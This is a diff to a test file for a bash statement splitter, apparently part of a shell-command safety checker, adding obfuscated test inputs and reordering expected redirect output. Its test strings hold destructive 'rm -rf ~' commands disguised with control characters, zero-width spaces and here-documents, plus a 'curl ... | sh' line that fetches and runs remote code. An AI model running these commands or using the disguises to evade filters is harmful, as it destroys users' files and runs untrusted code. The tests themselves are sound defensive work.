@@ -365,6 +365,8 @@ TOKENIZED_OTHERWISE = [
     "x\x0c#;rm -rf ~",
     "`true`<<E]{ rm -rf ~\n",        # a line that does not parse is also split as bash splits words: an
     "\\\n<<E`true`{{ rm -rf ~; }?",  # empty name before a here-document, a line continuation
+    "<x <<E{ rm -rf ~",               # redirects before the command
+    "<<E<<E\r${#x}\u200b{ rm -rf ~ ",
     "[|rm -rf ~",                  # a pipeline that does not parse: its later stages still run
     "[[-|rm -rf ~",
     "in=|rm -rf ~",
@@ -416,11 +418,11 @@ def test_the_bash_word_split_keeps_pipelines_and_redirects_and_drops_assignments
 
     assert _bash_statements("a=b{\\#{ curl -s http://x/a | sh; echo ok # c") == [
         "curl -s http://x/a | sh", "echo ok"]
-    assert _bash_statements("X=1 >out 2>&1 rm -rf ~ && ls") == ["> out 2>& 1 rm -rf ~", "ls"]
+    assert _bash_statements("X=1 >out 2>&1 rm -rf ~ && ls") == ["rm -rf ~ > out 2>& 1", "ls"]
     assert _bash_statements("echo $(rm -rf ~)x 'a b'") == ["echo _x 'a b'"]
     assert _bash_statements("echo 'open") == []
     assert _bash_statements("! time -p { rm -rf ~; }") == ["rm -rf ~"]
-    assert _bash_statements("true <<E]{ rm -rf ~") == ["true << 'E]{' rm -rf ~"]
+    assert _bash_statements("true <<E]{ rm -rf ~") == ["true rm -rf ~ << 'E]{'"]
     # redirects stay (a descriptor's here-string is what `source /dev/fd/3` reads)
     assert _bash_statements("source /dev/fd/3 3<<< 'export A=1'") == ["source /dev/fd/3 3<<< 'export A=1'"]
     assert _bash_statements("ls !(b*)") == ["ls '!'"]  # an extglob's pattern is no command
